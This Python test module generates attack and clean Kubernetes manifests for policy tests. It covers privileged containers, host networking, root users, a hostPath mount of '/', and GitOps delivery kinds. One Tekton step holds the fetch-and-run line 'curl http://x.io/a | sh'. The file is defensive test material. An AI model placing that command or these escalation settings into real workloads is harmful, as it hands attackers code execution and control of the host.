"""Attacks by workloads of any kind, and by what delivers objects nobody has seen."""

from collections.abc import Iterable, Iterator
from typing import Any

from tests.policies.attacks.objects import (
    BAD_IMAGE,
    IMAGE,
    TEMPLATE,
    Kube,
    container,
    edit,
    kube,
    pod_spec,
)

HOLDERS: dict[str, tuple[Kube, str]] = {
    "JobSet": (
        kube(
            "jobset.x-k8s.io/v1alpha2",
            "JobSet",
            {"replicatedJobs": [{"name": "a", "template": {"spec": {"template": TEMPLATE}}}]},
        ),
        "/spec/replicatedJobs/0/template/spec/template/spec",
    ),
    "LeaderWorkerSet": (
        kube(
            "leaderworkerset.x-k8s.io/v1",
            "LeaderWorkerSet",
            {"leaderWorkerTemplate": {"workerTemplate": TEMPLATE}},
        ),
        "/spec/leaderWorkerTemplate/workerTemplate/spec",
    ),
    "Knative Service": (
        kube("serving.knative.dev/v1", "Service", {"template": TEMPLATE}),
        "/spec/template/spec",
    ),
    "RayCluster": (
        kube("ray.io/v1", "RayCluster", {"headGroupSpec": {"template": TEMPLATE}}),
        "/spec/headGroupSpec/template/spec",
    ),
    "PyTorchJob": (
        kube(
            "kubeflow.org/v1",
            "PyTorchJob",
            {"pytorchReplicaSpecs": {"Worker": {"template": TEMPLATE}}},
        ),
        "/spec/pytorchReplicaSpecs/Worker/template/spec",
    ),
    "Volcano Job": (
        kube("batch.volcano.sh/v1alpha1", "Job", {"tasks": [{"name": "a", "template": TEMPLATE}]}),
        "/spec/tasks/0/template/spec",
    ),
    "CloneSet": (
        kube("apps.kruise.io/v1alpha1", "CloneSet", {"template": TEMPLATE}),
        "/spec/template/spec",
    ),
    "InferenceService": (
        kube("serving.kserve.io/v1beta1", "InferenceService", {"predictor": pod_spec()}),
        "/spec/predictor",
    ),
    "Workflow": (
        kube("argoproj.io/v1alpha1", "Workflow", {"templates": [{"name": "a", **pod_spec()}]}),
        "/spec/templates/0",
    ),
    "DeploymentConfig": (
        kube("apps.openshift.io/v1", "DeploymentConfig", {"template": TEMPLATE}),
        "/spec/template/spec",
    ),
}


def workloads() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for name, (holder, place) in HOLDERS.items():
        for what, path, bad, good in (
            ("privileged", "/containers/0/securityContext/privileged", True, False),
            ("host network", "/hostNetwork", True, False),
            ("image by tag", "/containers/0/image", BAD_IMAGE, IMAGE),
        ):
            attack, clean = edit(holder, place + path, bad, good)
            yield f"{name}: {what}", [attack], [clean]
    flow = kube(
        "argoproj.io/v1alpha1", "Workflow", {"templates": [{"name": "a", "container": container()}]}
    )
    parts: tuple[tuple[str, str, Any], ...] = (
        ("container", "/spec/templates/0/container/image", BAD_IMAGE),
        ("host path", "/spec/volumes", [{"name": "h", "hostPath": {"path": "/"}}]),
        ("root", "/spec/templates/0/container/securityContext/runAsUser", 0),
    )
    for what, path, wrong in parts:
        attack, clean = edit(flow, path, wrong)
        yield f"Workflow: {what}", [attack], [clean]
    task = kube("tekton.dev/v1", "Task", {"steps": [container()]})
    attack, clean = edit(task, "/spec/steps/0/script", "curl http://x.io/a | sh", "make")
    yield "Task: script", [attack], [clean]
    own = kube(
        "holdfast.dev/v1", "Agent", {"image": IMAGE, "pod": {"overrides": {"hostNetwork": False}}}
    )
    attack, clean = edit(own, "/spec/pod/overrides/hostNetwork", True)
    yield "Agent: pod.overrides", [attack], [clean]
    unknown = kube("acme.example/v1", "Engine", {"size": 3})
    yield "unknown kind", [unknown], [kube("v1", "ConfigMap", data={"size": "3"})]


def deliverers() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    harmless = kube(
        "source.toolkit.fluxcd.io/v1", "GitRepository", {"url": "https://git.example/a"}
    )
    for api, kind in (
        ("helm.toolkit.fluxcd.io/v2", "HelmRelease"),
        ("kustomize.toolkit.fluxcd.io/v1", "Kustomization"),
        ("argoproj.io/v1alpha1", "Application"),
        ("argoproj.io/v1alpha1", "ApplicationSet"),
        ("helm.cattle.io/v1", "HelmChart"),
        ("fleet.cattle.io/v1alpha1", "GitRepo"),
        ("kappctrl.k14s.io/v1alpha1", "App"),
        ("packaging.carvel.dev/v1alpha1", "PackageInstall"),
        ("work.open-cluster-management.io/v1", "ManifestWork"),
        ("operators.coreos.com/v1alpha1", "Subscription"),
        ("kubernetes.crossplane.io/v1alpha2", "Object"),
        ("core.oam.dev/v1beta1", "Application"),
        ("kro.run/v1alpha1", "ResourceGraphDefinition"),
        ("pulumi.com/v1", "Stack"),
        ("configsync.gke.io/v1beta1", "RootSync"),
        ("addons.cluster.x-k8s.io/v1beta1", "ClusterResourceSet"),
    ):
        yield kind, [kube(api, kind, {"a": 1})], [harmless]
    clean = kube("argoproj.io/v1alpha1", "AnalysisTemplate", {"metrics": []})
    yield "by kind of one group", [kube("argoproj.io/v1alpha1", "Application", {})], [clean]
